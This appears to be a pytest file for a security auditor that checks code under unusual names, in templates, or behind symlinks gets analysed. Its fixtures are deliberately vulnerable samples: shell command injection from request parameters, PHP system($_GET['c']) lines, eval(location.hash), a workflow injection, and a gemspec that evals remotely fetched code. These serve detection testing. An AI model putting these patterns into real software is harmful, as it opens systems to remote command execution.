"""Code under names, in containers or behind links that no reader of code opens: it is analysed, or the report says that it is not."""

from __future__ import annotations

import time

import pytest

from auditor.forensics.source_text.embedded_scripts import extract_scripts
from auditor.forensics.source_text.quoted_test_paths import quoted_relative_paths
from tests.adversarial.authors.gated import audit_change, gate, link
from tests.repos import Content, Drawing

JS = "const { exec } = require('child_process')\n\nexports.print = (req) => {\n  exec('lp ' + req.query.name)\n}\n"
MODULE = (
    "import { exec } from 'node:child_process'\n\nexport function print(req) {\n  exec('lp ' + req.query.name)\n}\n"
)
CALM_JS = "exports.total = (rows) => rows.reduce((sum, row) => sum + row.price, 0)\n"
PYTHON = "import os\n\n\ndef label(environ, start_response):\n    os.system('lp ' + environ['QUERY_STRING'])\n"
LUA = "function label(name)\n    os.execute('lp ' .. name)\nend\n"
WORKFLOW = "name: label\non: issues\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ github.event.issue.title }}'\n"


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("src/label.es6", MODULE),
        ("src/label.jsm", JS),
        ("src/label.mjs", MODULE),
        ("src/label.cjs", JS),
        ("src/label.mts", MODULE),
        ("src/label.cts", MODULE),
        ("shop/label.wsgi", PYTHON),
        ("shop/label.pyw", PYTHON),
        ("bin/label", f"#!/usr/bin/env node\n{JS}"),
        ("bin/label", f"#!/usr/bin/env -S NODE_ENV=production node --no-warnings\n{JS}"),
        ("bin/label", f"#!/usr/bin/env -S deno run -A\n{MODULE}"),
        ("bin/label", f"#!/usr/bin/env node\n// caf\xe9\n{JS}".encode("latin-1")),
        ("bin/label", f"#!/usr/bin/python3\n{PYTHON}"),
        ("src/label", JS),
        ("assets/logo.dat", JS),
        ("assets/logo.dat", PYTHON),
        ("data/rows.csv", f"/* rows, rows */\n{JS}"),
        ("logs/start.log", f"'use strict'\n{JS}"),
    ],
)  # fmt: skip
def test_code_is_analysed_whatever_its_file_is_called(drawing: Drawing, path: str, source: Content) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path)[0] == "analysed"
    assert seen.finds(path)
    assert seen.ended == "failed"


@pytest.mark.parametrize("path", ["src/total.es6", "src/total.jsm", "src/total", "assets/total.dat"])
def test_calm_code_under_those_names_passes(drawing: Drawing, path: str) -> None:
    seen = audit_change(drawing, {}, {path: CALM_JS})
    assert seen.coverage(path) == ("analysed", "")
    assert seen.ended == "passed"


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("docs/label.txt", f"How a label is printed:\n\n{JS}"),
        ("docs/label.txt", f"{JS}\n(This is what the program did until last year, and no longer does.)\n"),
        ("data/rows.csv", "const,require('child_process')\n1,exec('lp ' + name)\n"),
    ],
)  # fmt: skip
def test_text_that_quotes_code_passes(drawing: Drawing, path: str, source: str) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path)[0] == "text"
    assert not seen.finds(path)


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("web/Label.vue", f"<template>\n  <p>x</p>\n</template>\n<script>\n{MODULE}</script>\n"),
        ("web/Label.vue", f"<script setup lang=\"ts\">\nconst n: string = 'a'\n{MODULE}</script>\n<template><p/></template>\n"),
        ("web/Label.svelte", f"<script context='module'>\n{MODULE}</script>\n<p>x</p>\n"),
        ("web/label.astro", f"---\nconst rows: string[] = []\n{MODULE}---\n<p>{{rows}}</p>\n"),
        ("web/label.html", f"<!doctype html>\n<p>x</p>\n<SCRIPT data-a='>' type=module>\n{MODULE}</SCRIPT >\n"),
        ("views/label.ejs", "<ul>\n<% const { exec } = require('child_process') %>\n<% rows.forEach(row => { %>\n<li><%= row.name %></li>\n<% exec('lp ' + row.name) %>\n<% }) %>\n</ul>\n"),
        ("web/label.html", "<html>\n<p><?= `lp {$_GET['name']}` ?></p>\n</html>\n"),
        ("web/label.htm", "<script>\nconst rows = <?php echo json_encode($rows) ?>;\n</script>\n<? system('lp ' . $_POST['name']); ?>\n"),
        ("views/label.ejs", "<script>\nconst data = <%- JSON.stringify(data) %>;\neval(location.hash)\n</script>\n"),
    ],
)  # fmt: skip
def test_scripts_of_pages_are_analysed_and_the_rest_is_said_to_be_text(
    drawing: Drawing, path: str, source: str
) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path)[0] == "text"
    assert "its scripts as" in seen.coverage(path)[1]
    assert seen.finds(path)
    assert seen.ended == "failed"


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("web/Label.vue", "<template>\n  <p>{{ total }}</p>\n</template>\n<script setup>\nconst total = 1\n</script>\n"),
        ("web/label.html", "<p>x</p>\n<script>\nconst rows = {{ rows|tojson }};\n{% if a %}show(rows){% endif %}\n</script>\n"),
        ("web/label.html", "<p>eval(location.hash)</p>\n<script type='application/json'>{\"run\": \"eval(location.hash)\"}</script>\n"),
        ("web/label.html", "<script src='/label.js'></script>\n"),
        ("web/label.html", "<?xml version='1.0'?>\n<p>`lp $name` &lt;?php system($_GET['name']) ?&gt; <?= htmlspecialchars($_GET['name']) ?></p>\n"),
        ("views/label.ejs", "<%# eval(name) %>\n<% if (user) { %>\n<h2><%= user.name %></h2>\n<% } else { %>\n<p>none</p>\n<% } %>\n"),
    ],
)  # fmt: skip
def test_pages_with_calm_scripts_or_none_pass(drawing: Drawing, path: str, source: str) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path)[0] in {"text", "partial"}
    assert seen.ended == "passed"


TEMPLATES = [
    ("app/views/label.html.erb", "Ruby", "<p>x</p>\n<%- @rows.each do |row| -%>\n<% system(\"lp #{row.name}\") %>\n<%- end -%>\n"),
    ("config/label.sh.rhtml", "Ruby", "x\n<%== IO.popen(\"lp #{params[:name]}\").read -%>\n"),
    ("app/views/label.slim", "Ruby", "doctype html\n- if params[:name]\n  p = `lp #{params[:name]}`\n"),
    ("app/views/label.html.haml", "Ruby", "!!!\n%ul{class: 'a'}\n  %li Printed #{system(\"lp #{params[:name]}\")}\n"),
    ("Shop/Label.cshtml", "C#", "@using System.Diagnostics\n<p>@Model.Name</p>\n@if (Model.Name != null) {\n  Process.Start(\"sh\", \"-c \\\"lp \" + Model.Name + \"\\\"\");\n}\n"),
    ("Shop/Label.razor", "C#", "<p>x</p>\n@functions {\n  void Print(string n) {\n    System.Diagnostics.Process.Start(\"bash\", $\"-c \\\"lp {n}\\\"\");\n  }\n}\n"),
    ("Shop/Short.cshtml", "C#", "@using System.Diagnostics\n@{ Process.Start(\"/bin/sh\", \"-c \" + Request.Query[\"c\"]); }\n"),
    ("web/label.aspx", "C#", "<%@ Page Language=\"C#\" %>\n<% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c lp \" + Request[\"n\"]); %>\n"),
    ("web/label.jsp", "Java", "<%@ page import=\"java.io.*\" %>\n<%!\n  void print(String n) throws IOException {\n    Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"lp \" + n});\n  }\n%>\n<% print(request.getParameter(\"n\")); %>\n"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "title", "source"), TEMPLATES, ids=[each[0] for each in TEMPLATES])
def test_code_of_templates_is_analysed_and_the_rest_is_said_to_be_text(
    drawing: Drawing, path: str, title: str, source: str
) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path) == ("text", f"read as text, its code as {title}")
    assert seen.finds(path)
    assert seen.ended == "failed"


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("resources/views/label.blade.php", "<ul>\n@foreach (request('names') as $name)\n  @php\n    exec('lp ' . $name);\n  @endphp\n@endforeach\n</ul>\n"),
        ("resources/views/label.blade.php", "@extends('page')\n<p>{!! shell_exec('lp ' . request()->input('name')) !!}</p>\n"),
        ("lib/label.inc", "<p>x</p>\n<?php system('lp ' . $_GET['name']) ?>\n"),
        ("app/views/label.pdf.prawn", "pdf.text `lp #{params[:name]}`\n"),
        ("app/views/label.json.jbuilder", "json.label @label\neval(params[:name])\n"),
        ("shop.gemspec", "Gem::Specification.new do |spec|\n  spec.name = 'shop'\n  eval(Net::HTTP.get(URI('https://example.org/x')))\nend\n"),
        ("Gemfile", "source 'https://rubygems.org'\nsystem(\"lp #{ENV['NAME']}\")\n"),
    ],
)  # fmt: skip
def test_views_and_build_files_in_a_known_language_are_analysed(drawing: Drawing, path: str, source: str) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path) == ("analysed", "")
    assert seen.finds(path)


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("app/views/label.html.erb", "<p>`lp x`</p>\n<%# system(params[:name]) %>\n<%= form_with model: @label do |f| %>\n<%= f.text_field :name, value: params[:name] %>\n<% end %>\n<%% eval(x) %>\n"),
        ("app/views/label.slim", "h1 Labels `lp`\n- @rows.each do |row|\n  p.a = row.name\n- if row\n  a href=label_path(row) class=\"a\" = row.title\n- else\n  p eval(x)\n"),
        ("app/views/label.haml", "%h1 Labels\n-# system(params[:name])\n- @rows.each do |row|\n  %p{title: row.name}= row.name\n"),
        ("Shop/Label.cshtml", "@model Label\n<p>@Model.Name (@Html.Raw(\"x\")) me@example.org</p>\n@foreach (var row in Model.Rows) {\n  <li>@row.Name Process.Start(a)</li>\n}\n@media (print) { }\n"),
        ("Shop/Label.razor", "<p>@Name</p>\n@code {\n  [Parameter] public string Name { get; set; } = \"\";\n  void Print() { Name = Name.Trim(); }\n}\n"),
        ("resources/views/label.blade.php", "@extends('page')\n<p>{{ $name }} exec($name) @{{ exec(name) }}</p>\n{{-- {{ exec($name) }} --}}\n@include('row', ['name' => $name])\n"),
        ("web/label.jsp", "<%@ page import=\"java.util.*\" %>\n<%-- Runtime.getRuntime().exec(name) --%>\n<p><%= rows.size() %></p>\n"),
        ("web/label.aspx", "<%@ Page Language=\"VB\" %>\n<% Dim a = Request(\"n\") %>\n<p>x</p>\n"),
        ("shop.gemspec", "Gem::Specification.new do |spec|\n  spec.files = `git ls-files`.split\n  spec.version = File.read('VERSION').strip\nend\n"),
        ("Gemfile", "source 'https://rubygems.org'\neval_gemfile 'gems/common.rb'\ngem 'rails', '~> 8.0'\n"),
    ],
)  # fmt: skip
def test_calm_templates_pass(drawing: Drawing, path: str, source: str) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert not seen.finds(path)
    assert seen.ended == "passed"


@pytest.mark.parametrize(
    ("path", "source", "title"),
    [
        ("shop/label.lua", LUA, "Lua"),
        ("bin/label", "#!/usr/bin/env perl\nsystem(\"lp $ARGV[0]\");\n\n1;\n", "Perl"),
        ("bin/label", "#!/usr/bin/lua5.4\nos.execute('lp ' .. arg[1])\n\nprint(1)\n", "Lua"),
        ("shop/Label.kt", "class Label {\n    fun print(n: String) { Runtime.getRuntime().exec(n) }\n    val a = 1\n}\n", "Kotlin"),
        ("shop/label.c", "int main(int n, char **a) {\n    system(a[1]);\n    return 0;\n}\n", "C"),
        ("shop/label.cpp", "int main(int n, char **a) {\n    system(a[1]);\n    return 0;\n}\n", "C++"),
        ("tool/label.ps1", "param($n)\nInvoke-Expression $n\n$a = 1\n$b = 2\n", "PowerShell"),
        ("web/label.ftl", "<#assign run='freemarker.template.utility.Execute'?new()>\n${run('lp x')}\n<p>\n</p>\n", "FreeMarker"),
        ("web/label.pug", "- const { exec } = require('child_process')\n- exec('lp ' + name)\np x\np y\n", "Pug"),
        ("tool/label.bat", "@echo off\n%1\nrem x\nexit /b\n", "Batch"),
    ],
)  # fmt: skip
def test_code_without_a_grammar_is_counted_and_does_not_look_clean(
    drawing: Drawing, path: str, source: str, title: str
) -> None:
    seen = audit_change(drawing, {}, {path: source, "shop/a.py": "x = 1\n"})
    assert seen.coverage(path) == ("text", f"read as text: no grammar for {title}")
    lines = source.count("\n")
    assert f"There is no parser for {title} ({lines} changed lines)." in seen.fact("coverage.analysed")
    (security,) = (each for each in seen.report.verdict.rulings if each.criterion == "security")
    assert security.score is not None
    assert security.score < 5


@pytest.mark.parametrize("path", ["Makefile", "Dockerfile", "docker/app.dockerfile", "README.txt", "notes.md", "a.yml"])
def test_build_files_and_prose_are_listed_as_text_and_cost_nothing(drawing: Drawing, path: str) -> None:
    seen = audit_change(drawing, {}, {path: "x: y\n", "shop/a.py": "x = 1\n"})
    assert seen.coverage(path)[0] == "text"
    assert "were analysed" in seen.fact("coverage.analysed")
    assert "no grammar" not in seen.fact("coverage.analysed")
    assert seen.ended == "passed"


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("shop/label.wsgi", "def label(:\n"),
        ("shop/label.wsgi", b"import os\nx = '\xe9'\n"),
        ("src/label.es6", "<<<<<<< )))) {{{{ ]]]] ==== (((( \n" * 3),
        ("bin/label", "#!/usr/bin/env node\n" + "<<<<<<< )))) {{{{ ]]]] ==== (((( \n" * 3),
        ("bin/label", b"#!/usr/bin/env node\nx = '\0'\n"),
        ("web/Label.vue", b"<script>\nx = '\0'\n</script>\n"),
    ],
)  # fmt: skip
def test_source_that_cannot_be_decoded_or_parsed_leaves_the_gate_open(
    drawing: Drawing, path: str, source: Content
) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path)[0] in {"unavailable", "partial"}
    assert seen.ended == "inconclusive"


def test_a_workflow_behind_a_link_is_read_as_a_workflow(drawing: Drawing) -> None:
    links = {".github/workflows/label.yml": "../../ops/label.yml"}
    seen = audit_change(drawing, {}, {"ops/label.yml": WORKFLOW}, links)
    assert seen.coverage(".github/workflows/label.yml") == ("analysed", "")
    assert seen.finds(".github/workflows/label.yml")
    assert seen.ended == "failed"


def test_a_workflow_link_is_read_again_where_only_the_file_behind_it_changes(drawing: Drawing) -> None:
    calm = WORKFLOW.replace("'${{ github.event.issue.title }}'", "hello")
    link(drawing, ".github/workflows/label.yml", "../../ops/label.yml")
    drawing.commit({"ops/label.yml": calm})
    drawing.branch("work")
    drawing.commit({"ops/label.yml": WORKFLOW})
    seen = gate(drawing)
    assert seen.finds(".github/workflows/label.yml")
    assert seen.ended == "failed"


@pytest.mark.parametrize("target", ["../data/label.dat", "./pool/../data/label.dat", "../alias/label.dat"])
def test_code_behind_a_link_is_read_as_code(drawing: Drawing, target: str) -> None:
    links = {"src/label.js": target, "alias": "data", "src/pool": "../data"}
    base: dict[str, Content] = {"data/label.dat": CALM_JS, "data/x": "x"}
    seen = audit_change(drawing, base, {"data/label.dat": JS}, links)
    assert seen.finds("src/label.js")
    assert seen.ended == "failed"


@pytest.mark.parametrize("path", ["src/label.js", "src/label.py", "bin/label", ".github/workflows/label.yml"])
@pytest.mark.parametrize("target", ["/usr/lib/label.js", "../../../label.js", "nowhere.js", "label.js"])
def test_a_link_out_of_the_tree_or_to_nothing_is_unread(drawing: Drawing, path: str, target: str) -> None:
    seen = audit_change(drawing, {}, {"src/a.js": CALM_JS}, {path: target})
    assert seen.coverage(path) == ("unavailable", "a symbolic link that leads out of the tree, or nowhere")
    assert seen.ended == "inconclusive"


@pytest.mark.parametrize(
    ("path", "target"), [("docs/README.md", "../README.md"), ("logo.svg", "web/logo.svg"), ("all", "src")]
)
def test_links_among_documents_pictures_and_folders_cost_nothing(drawing: Drawing, path: str, target: str) -> None:
    seen = audit_change(drawing, {}, {"src/a.js": CALM_JS, "web/logo.svg": "<svg/>\n"}, {path: target})
    assert seen.coverage(path)[0] == "not_applicable"
    assert seen.ended == "passed"


@pytest.mark.parametrize("padding", ["<script></script>\n" * 3_000, '<script "' * 100_000, "<% %>" * 5_000])
def test_a_page_with_more_scripts_than_any_page_has_is_unread_at_once(drawing: Drawing, padding: str) -> None:
    started = time.process_time()
    seen = audit_change(drawing, {}, {"views/label.ejs": f"{padding}<script>eval(location.hash)</script>\n"})
    assert seen.coverage("views/label.ejs") == ("unavailable", "it contains more scripts than are read from one page")
    assert seen.ended == "inconclusive"
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "text",
    [
        "'" * 400_000,
        "'" + "a" * 199 + "'" * 2,
        "join('a', " * 40_000,
        "' + '" * 80_000,
        "#[a]\n" * 80_000,
        "test " + "'./a" * 100_000,
    ],
)
def test_quoted_paths_are_looked_for_in_time(text: str) -> None:
    started = time.process_time()
    quoted_relative_paths(f"{text} tests", "rust")
    assert time.process_time() - started < 2


@pytest.mark.parametrize("path", ["a.erb", "a.cshtml", "a.jsp", "a.blade.php", "a.aspx", "a.slim"])
@pytest.mark.parametrize("unit", ["<%", "@{", "@a.b(", "{{", "#{", "<jsp:scriptlet>", "<script runat=x>", "@if(a{"])
def test_templates_that_open_code_without_end_are_read_in_time(path: str, unit: str) -> None:
    begun = time.monotonic()
    extract_scripts("@section\n" + unit * 8_000, path.rpartition(".")[2])
    assert time.monotonic() - begun < 8


@pytest.mark.parametrize(
    ("path", "opening"),
    [
        ("a.aspx", "<SCRIPT "),
        ("a.haml", "= " + " " * 2_000 + "x" * 2_100 + "\n"),
        ("a.haml", "%p" + " " * 2_000 + "= " + " " * 2_000 + "x" * 2_100 + "\n"),
        ("a.php", "<p></p>" + "\n" * 2_000),
    ],
)
def test_templates_with_many_blanks_and_openings_are_read_in_time(path: str, opening: str) -> None:
    begun = time.monotonic()
    extract_scripts(opening * (8_000 if path == "a.aspx" else 75), path.rpartition(".")[2])
    assert time.monotonic() - begun < 4


@pytest.mark.parametrize(
    ("source", "status"),
    [
        ("<p>hi</p>\n@csrf\n<?php $a = '<?'; system($_GET['c']); ?>\n", "analysed"),
        ("<p>hi</p>\n@csrf\n<? system($_GET['c']); ?>\n", "analysed"),
        ("<p>hi</p>\n@csrf\n" + "@ " * 2_100 + "<?php system($_GET['c']);\n", "partial"),
        ("<p>hi</p>" + "\n" * 150_000 + "<?php system($_GET['c']);\n", "analysed"),
    ],
)
@pytest.mark.parametrize("path", ["public/label.php", "public/label.blade.php"])
def test_php_that_looks_like_a_template_is_read_as_php_too(
    drawing: Drawing, path: str, source: str, status: str
) -> None:
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path)[0] == status
    assert seen.finds(path)


def test_a_template_of_xml_is_analysed_in_full(drawing: Drawing) -> None:
    path = "resources/views/feed.blade.php"
    source = '{!! \'<?xml version="1.0" encoding="UTF-8"?>\' !!}\n<rss>\n@foreach ($rows as $row)\n<a>{{ $row->name }}</a>\n@endforeach\n</rss>\n'
    seen = audit_change(drawing, {}, {path: source})
    assert seen.coverage(path) == ("analysed", "")
    assert not seen.finds(path)


def test_a_long_line_of_a_template_is_read(drawing: Drawing) -> None:
    path = "app/views/label.haml"
    assert audit_change(drawing, {}, {path: f'- system("lp #{{params[:name]}}") # {"x" * 3_000}\n'}).finds(path)
